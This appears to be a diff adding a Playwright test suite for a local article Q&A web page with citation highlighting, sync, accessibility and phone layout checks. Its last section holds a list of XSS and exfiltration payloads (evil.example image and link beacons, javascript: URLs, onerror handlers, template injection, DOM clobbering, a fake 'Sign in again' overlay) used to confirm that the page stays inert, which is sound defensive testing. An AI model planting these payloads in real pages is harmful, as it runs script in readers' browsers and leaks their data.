@@ -1,0 +1,484 @@
+"""The page as its readers use it: a real server on real articles, driven by a real Chromium."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import socket
+import threading
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import TYPE_CHECKING
+from urllib.parse import urlsplit
+
+import pytest
+
+from assistant import Assistant, Settings
+from assistant.ui import texts
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, Request
+
+SEEDS = Path(__file__).parents[1] / "seeds"
+CHROMIUM = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
+FLAGS = (
+    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run "
+    "--disable-background-networking --disable-component-update --disable-sync"
+).split()
+DESKTOP, PHONE = {"width": 1440, "height": 900}, {"width": 390, "height": 844}
+WHO = "Who oversaw the missile tests?"
+
+HARBOUR = """---
+title: Port Ansel reopens its harbour
+source: coastal-courier.example
+url: https://coastal-courier.example/harbour
+published: 2025-03-12
+authors: The Harbour Desk
+---
+Port Ansel reopened its harbour on Monday, two weeks after the storm sank three trawlers.
+Harbour master Ines Okafor said the dredging cost 4.2 million euros.
+
+The ferry to Lundholm sails again from Thursday.
+"""
+
+
+@dataclass
+class Site:
+    """A running page and the folder of articles behind it."""
+
+    address: str
+    folder: Path
+    assistant: Assistant
+
+
+@contextmanager
+def serving(base: Path) -> Iterator[Site]:
+    """Serve the page on a free port from a thread, as ``serve`` does in a process."""
+    from assistant.ui.app import build, server
+
+    folder = base / "articles"
+    folder.mkdir(exist_ok=True)
+    assistant = Assistant(Settings(data=base / "storage", folder=folder))
+    with assistant, socket.create_server(("127.0.0.1", 0)) as listener:
+        running = server(build(assistant))
+        thread = threading.Thread(target=running.run, kwargs={"sockets": [listener]})
+        thread.start()
+        try:
+            while not running.started:
+                time.sleep(0.02)
+            yield Site(f"http://127.0.0.1:{listener.getsockname()[1]}", folder, assistant)
+        finally:
+            running.should_exit = True
+            thread.join()
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    """The two seed articles and one with front matter, synced and served."""
+    base = tmp_path_factory.mktemp("site")
+    (base / "articles").mkdir()
+    for seed in SEEDS.glob("*.txt"):
+        shutil.copy(seed, base / "articles")
+    (base / "articles" / "harbour.md").write_text(HARBOUR, encoding="utf-8")
+    with serving(base) as site:
+        site.assistant.sync()
+        yield site
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    """One Chromium for all tests here."""
+    path = next(filter(None, map(shutil.which, CHROMIUM)), None)
+    if path is None:
+        pytest.skip(f"no browser found: looked for {', '.join(CHROMIUM)}")
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=path, args=FLAGS)
+        yield chromium
+        chromium.close()
+
+
+@dataclass
+class Visit:
+    """One reader's tab, and everything in it that must not happen."""
+
+    page: Page
+    site: Site
+    strangers: list[str] = field(default_factory=list)
+    dialogs: list[str] = field(default_factory=list)
+    errors: list[str] = field(default_factory=list)
+
+    def ask(self, question: str) -> None:
+        """Type a question, press Enter, and wait for what comes of it."""
+        turns = self.page.locator(".turn").count()
+        self.page.fill("#question textarea", question)
+        self.page.press("#question textarea", "Enter")
+        self.page.locator(".turn").nth(turns).locator(".answer, .abstained, .failed").wait_for()
+
+    def open_marker(self, number: int) -> str:
+        """Click a marker of the last answer; give its quote."""
+        marker = self.page.locator(".turn").last.locator(f".cite[data-number='{number}']").first
+        marker.click()
+        self.page.locator("mark.current").first.wait_for()
+        return marker.get_attribute("data-quote") or ""
+
+    def marked(self) -> str:
+        """Give the words that the pane highlights now."""
+        return "".join(self.page.locator("mark.current").all_text_contents())
+
+    def show_articles(self) -> None:
+        """Switch to the articles view."""
+        self.page.get_by_role("tab", name=texts.ARTICLES_TAB).click()
+        self.page.locator("#status dl").wait_for()
+
+    def sync(self) -> str:
+        """Press Sync and give what is told when it is done."""
+        self.page.click("#sync")
+        self.page.locator(".sync.running").wait_for()
+        self.page.locator(".sync.done").wait_for()
+        return self.page.inner_text(".sync.done")
+
+
+Open = Callable[..., Visit]
+
+
+@pytest.fixture
+def visit(browser: Browser, site: Site) -> Iterator[Open]:
+    """Open tabs that note dialogs, script errors, and requests to any other host."""
+    opened: list[Visit] = []
+
+    def start(where: Site = site, *, viewport: object = DESKTOP, **options: object) -> Visit:
+        context = browser.new_context(viewport=viewport, **options)  # type: ignore[arg-type]
+        tab = Visit(context.new_page(), where)
+        host = urlsplit(where.address).netloc
+
+        def note_request(request: Request) -> None:
+            parts = urlsplit(request.url)
+            if parts.scheme not in {"data", "blob"} and parts.netloc != host:
+                tab.strangers.append(request.url)
+
+        def note_dialog(dialog: Dialog) -> None:
+            tab.dialogs.append(dialog.message)
+            dialog.dismiss()
+
+        def note_message(message: ConsoleMessage) -> None:
+            if message.type == "error":
+                tab.errors.append(message.text)
+
+        context.on("request", note_request)
+        tab.page.on("dialog", note_dialog)
+        tab.page.on("pageerror", lambda error: tab.errors.append(str(error)))
+        tab.page.on("console", note_message)
+        tab.page.goto(where.address)
+        tab.page.locator(".opening").wait_for()
+        opened.append(tab)
+        return tab
+
+    yield start
+    for tab in opened:
+        tab.page.context.close()
+        assert (tab.strangers, tab.dialogs, tab.errors) == ([], [], [])
+
+
+# ---- Asking -----------------------------------------------------------------------------------
+
+
+def test_a_marker_opens_the_article_with_exactly_the_quote_highlighted(
+    visit: Open, site: Site
+) -> None:
+    tab = visit()
+    tab.ask(WHO)
+    files = set()
+    for number in (1, 2):
+        quote = tab.open_marker(number)
+        assert tab.marked() == quote != ""
+        assert "Kim Jong Un" in quote
+        file = tab.page.inner_text("#pane .file span")
+        assert quote in (site.folder / file).read_text(encoding="utf-8")
+        files.add(file)
+    assert files == {path.name for path in SEEDS.glob("*.txt")}
+
+
+def test_the_highlighted_place_is_scrolled_to(visit: Open) -> None:
+    from playwright.sync_api import expect
+
+    tab = visit(viewport={"width": 1024, "height": 420})
+    tab.ask("How many meetings did Kim and Trump hold?")
+    tab.open_marker(1)
+    expect(tab.page.locator("mark.current").first).to_be_in_viewport()
+    assert tab.page.evaluate("document.querySelector('#pane .article').scrollTop") > 100
+
+
+def test_hovering_or_focusing_a_marker_shows_its_quote(visit: Open) -> None:
+    tab = visit()
+    tab.ask(WHO)
+    marker, peek = tab.page.locator(".cite").first, tab.page.locator("#peek")
+    quote = marker.get_attribute("data-quote")
+    marker.hover()
+    assert peek.locator("q").text_content() == quote
+    tab.page.mouse.move(5, 500)
+    peek.wait_for(state="hidden")
+    marker.focus()
+    assert peek.is_visible()
+    assert peek.locator("q").text_content() == quote
+
+
+def test_an_answer_from_quotes_says_so_with_outlet_and_date(visit: Open) -> None:
+    tab = visit()
+    tab.ask("What did the dredging of the harbour cost?")
+    answer = tab.page.locator(".turn").last.locator(".answer.quotes")
+    assert "4.2 million euros" in answer.inner_text()
+    assert "coastal-courier.example · 12 March 2025" in answer.inner_text()
+    assert texts.FROM_QUOTES in answer.inner_text()
+    assert any(word in answer.inner_text() for word in texts.CONFIDENCE.values())
+    assert "%" not in answer.inner_text()
+
+
+def test_what_the_articles_do_not_say_looks_unlike_an_answer_and_opens_the_closest(
+    visit: Open,
+) -> None:
+    tab = visit()
+    tab.ask("What is the capital of France?")
+    turn = tab.page.locator(".turn").last
+    assert turn.locator(".abstained h3").inner_text() == texts.ABSTAINED
+    assert turn.locator(".answer, .cite").count() == 0
+    assert "do not mention “France”" in turn.inner_text()
+    closest = turn.locator(".source").first
+    title = closest.locator("span").inner_text()
+    closest.click()
+    tab.page.locator("#pane h2").wait_for()
+    assert tab.page.inner_text("#pane h2") == title
+    assert tab.page.locator("mark").count() == 0
+
+
+def test_a_follow_up_question_leans_on_what_was_said(visit: Open) -> None:
+    tab = visit()
+    tab.ask("Who is the harbour master of Port Ansel?")
+    tab.ask("And what did she say?")
+    turn = tab.page.locator(".turn").last
+    assert "dredging cost" in turn.locator(".answer").inner_text()
+    assert turn.locator(".understood").is_visible()
+
+
+def test_every_suggested_question_is_answered(visit: Open) -> None:
+    tab = visit()
+    asked = tab.page.locator("[data-ask]").all_inner_texts()
+    assert len(asked) >= 3
+    tab.page.locator("[data-ask]").first.click()
+    tab.page.locator(".turn .answer").wait_for()
+    assert tab.page.inner_text(".turn .asked") == asked[0]
+    for question in asked[1:]:
+        tab.ask(question)
+        assert tab.page.locator(".turn").last.locator(".answer").count() == 1, question
+
+
+def test_a_new_conversation_forgets_the_old_one(visit: Open) -> None:
+    tab = visit()
+    tab.ask(WHO)
+    tab.page.click("#new")
+    tab.page.locator(".opening").wait_for()
+    assert tab.page.locator(".turn").count() == 0
+
+
+def test_a_question_that_is_too_long_is_refused_kindly(visit: Open) -> None:
+    tab = visit()
+    tab.page.eval_on_selector("#question textarea", "box => box.removeAttribute('maxlength')")
+    tab.ask("Why? " * 500)
+    assert "2,499 characters; the limit is 2,000" in tab.page.inner_text(".turn .failed")
+
+
+# ---- Without a mouse, without light, without room ---------------------------------------------
+
+
+def test_the_page_works_with_the_keyboard_alone(visit: Open) -> None:
+    tab = visit()
+    page = tab.page
+    page.keyboard.type(WHO)  # the question has the focus from the start
+    page.keyboard.press("Enter")
+    page.locator(".cite").first.wait_for()
+    for _ in range(30):
+        page.keyboard.press("Shift+Tab")
+        if page.evaluate("document.activeElement.classList.contains('cite')"):
+            break
+    opener = page.evaluate("document.activeElement.dataset.number")
+    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
+    assert outline == "solid"
+    page.keyboard.press("Enter")
+    page.locator("mark.current").first.wait_for()
+    before = page.inner_text("#pane .place")
+    page.keyboard.press("ArrowLeft")
+    page.wait_for_function("was => document.querySelector('.place').innerText !== was", arg=before)
+    page.keyboard.press("Escape")
+    page.locator("#pane").wait_for(state="hidden")
+    assert page.evaluate("document.activeElement.dataset.number") == opener
+
+
+def test_the_system_decides_between_light_and_dark_until_the_reader_does(visit: Open) -> None:
+    tab = visit(color_scheme="dark")
+    paper = "getComputedStyle(document.body).backgroundColor"
+    dark = tab.page.evaluate(paper)
+    assert dark == "rgb(22, 21, 19)"
+    tab.page.click("#theme")
+    light = tab.page.evaluate(paper)
+    assert light == "rgb(250, 248, 244)"
+    tab.page.reload()
+    tab.page.locator(".opening").wait_for()
+    assert tab.page.evaluate(paper) == light
+
+
+def test_on_a_phone_the_source_lies_over_the_chat_and_nothing_runs_off_the_side(
+    visit: Open,
+) -> None:
+    tab = visit(viewport=PHONE, has_touch=True, is_mobile=True)
+    tab.ask(WHO)
+    tab.open_marker(1)
+    box = tab.page.locator("#pane").bounding_box()
+    assert box == {"x": 0, "y": 0, **PHONE}
+    assert tab.page.locator("gradio-app").get_attribute("inert") == ""
+    tab.page.click("#pane .close")
+    tab.page.locator("#pane").wait_for(state="hidden")
+    for name in (texts.ASK_TAB, texts.ARTICLES_TAB):
+        tab.page.get_by_role("tab", name=name).click()
+        assert tab.page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]
+
+
+# ---- The articles -----------------------------------------------------------------------------
+
+
+def test_a_sync_takes_in_a_new_file_and_lets_go_of_a_deleted_one(visit: Open, site: Site) -> None:
+    tab = visit()
+    tab.show_articles()
+    new = site.folder / "lighthouse.txt"
+    new.write_text("Lighthouse of Cape Brenn lit again\n\nKeeper Tomas Wirth lit it on Sunday.\n")
+    broken = site.folder / "empty.txt"
+    broken.write_text("")
+    assert "1 new" in tab.sync()
+    assert "empty.txt" in tab.page.inner_text(".failures")
+    tab.page.fill("#search textarea, #search input", "cape brenn")
+    tab.page.wait_for_function("document.querySelectorAll('#articles tbody tr').length === 1")
+    tab.page.get_by_role("tab", name=texts.ASK_TAB).click()
+    tab.ask("Who lit the lighthouse of Cape Brenn?")
+    assert "Tomas Wirth" in tab.page.locator(".turn").last.locator(".answer").inner_text()
+    marker = tab.page.locator(".cite").first
+
+    new.unlink()
+    broken.unlink()
+    tab.show_articles()
+    assert "1 removed" in tab.sync()
+    tab.page.locator(".failures").wait_for(state="detached")
+    tab.page.get_by_role("tab", name=texts.ASK_TAB).click()
+    marker.click()
+    tab.page.locator("#pane .failed").wait_for()
+    tab.errors.clear()  # the browser logs the 404 of the article that is gone
+    tab.ask("Who lit the lighthouse of Cape Brenn?")
+    assert "Wirth" not in tab.page.locator(".turn").last.inner_text().split("\n", 1)[1]
+
+
+def test_words_that_have_changed_since_the_answer_are_not_highlighted(
+    visit: Open, site: Site
+) -> None:
+    tab = visit()
+    tab.ask("What did the dredging of the harbour cost?")
+    tab.open_marker(1)
+    harbour = site.folder / "harbour.md"
+    harbour.write_text(HARBOUR.replace("4.2 million", "5.1 million"), encoding="utf-8")
+    site.assistant.sync()
+    tab.page.click("#pane .close")
+    tab.page.locator(".cite").first.click()
+    tab.page.locator("#pane .notice").wait_for()
+    assert tab.page.locator("mark").count() == 0
+    harbour.write_text(HARBOUR, encoding="utf-8")
+    site.assistant.sync()
+
+
+def test_before_the_first_sync_the_page_says_where_articles_go(visit: Open, tmp_path: Path) -> None:
+    with serving(tmp_path) as site:
+        tab = visit(site)
+        assert str(site.folder) in tab.page.inner_text(".opening.empty")
+        (site.folder / "harbour.md").write_text(HARBOUR, encoding="utf-8")
+        tab.page.click(".opening .go")
+        assert "1 new" in tab.sync()
+        tab.page.get_by_role("tab", name=texts.ASK_TAB).click()
+        tab.page.locator(".opening:not(.empty)").wait_for()
+        tab.ask("Who is the harbour master?")
+        assert "Ines Okafor" in tab.page.inner_text(".answer")
+
+
+# ---- Hostile articles -------------------------------------------------------------------------
+
+HOSTILE = {
+    "picture": "![map](https://evil.example/?q=harbour)",
+    "reference": "![map][m]\n\n[m]: https://evil.example/m.png",
+    "srcset": '<img srcset="https://evil.example/1.png 1x" src="https://evil.example/2.png">',
+    "link": "[more](https://evil.example/?text=secret)",
+    "style": '<p style="background:url(https://evil.example/bg.png)">tide</p>',
+    "autolink": "<https://evil.example/> https://evil.example/auto",
+    "scheme": "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>)",
+    "video": '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4">',
+    "form": '<form action="https://evil.example/"><input name="q"><button>Go</button></form>',
+    "split": "![map](https://evil.example/\n\nq=split)",
+    "onerror": "<img src=x onerror=alert(1)>",
+    "onload": "<svg onload=alert(1)><script>alert(2)</script></svg>",
+    "entity": '<a href="jav&#x09;ascript:alert(1)">tide table</a>',
+    "katex": r"$\href{javascript:alert(1)}{tide}$ $$\htmlData{x=y}{z}$$",
+    "mermaid": '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
+    "overlay": '<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>',
+    "clobber": '<a id="pane" name="peek"></a><form id="talk"></form><base href="//evil.example/">',
+    "template": "${alert(1)} {{constructor.constructor('alert(1)')()}} `+alert(1)+`",
+    "close": "</script></textarea>\"'><script>alert(1)</script><img src=x onerror=alert(1)>",
+}
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    """Every payload as a text, a title, a source, an author and a file name."""
+    base = tmp_path_factory.mktemp("hostile")
+    folder = base / "articles"
+    folder.mkdir()
+    for name, payload in HOSTILE.items():
+        stated = json.dumps(payload.replace("\n", " "))
+        page = (
+            f"---\ntitle: {stated}\nsource: {stated}\nauthors: {stated}\n"
+            f"url: {json.dumps('javascript:alert(1)//' + name)}\n---\n"
+            f"The {name} lighthouse keeper is Tomas Wirth {payload} and he lives there.\n"
+        )
+        (folder / f"{name}.md").write_text(page, encoding="utf-8")
+    named = "The quay of Lundholm was painted blue in May.\n"
+    for file in ('"><img src=x onerror=alert(1)>.txt', "<svg onload=alert(1)>.txt"):
+        (folder / file).write_text(named, encoding="utf-8")
+    (folder / "\x1b[31mred\r\n.txt").write_text("", encoding="utf-8")
+    with serving(base) as site:
+        site.assistant.sync()
+        yield site
+
+
+def test_hostile_articles_are_shown_as_the_text_they_are(visit: Open, hostile: Site) -> None:
+    tab = visit(hostile)
+    for name in HOSTILE:
+        tab.ask(f"Who is the {name} lighthouse keeper?")
+    tab.ask("What was painted blue in Lundholm?")
+    assert tab.page.locator(".answer").count() >= len(HOSTILE) // 2
+    for marker in tab.page.locator(".cite").all():
+        marker.hover()
+    tab.page.locator(".cite").last.click()
+    tab.page.locator("mark.current").first.wait_for()
+    tab.page.click("#pane .close")
+    tab.show_articles()
+    assert tab.page.locator("#articles tbody tr").count() == len(hostile.assistant.articles())
+    for row in tab.page.locator("#articles .source").all():
+        file = row.get_attribute("data-file") or ""
+        row.click()
+        tab.page.wait_for_function(
+            "file => document.querySelector('#pane .file span')?.textContent === file", arg=file
+        )
+        article = hostile.assistant.article(file)
+        shown = tab.page.locator("#pane .text").text_content() or ""
+        assert shown.split() == article.text[article.body :].split()
+        assert tab.page.inner_text("#pane h2").split() == article.title.split()
+    grown = "img, svg, script, iframe, video, form, base, style, a"
+    for place in ("#talk", "#pane", "#peek", "#articles", "#status"):
+        assert tab.page.locator(place).locator(grown).count() == 0, place
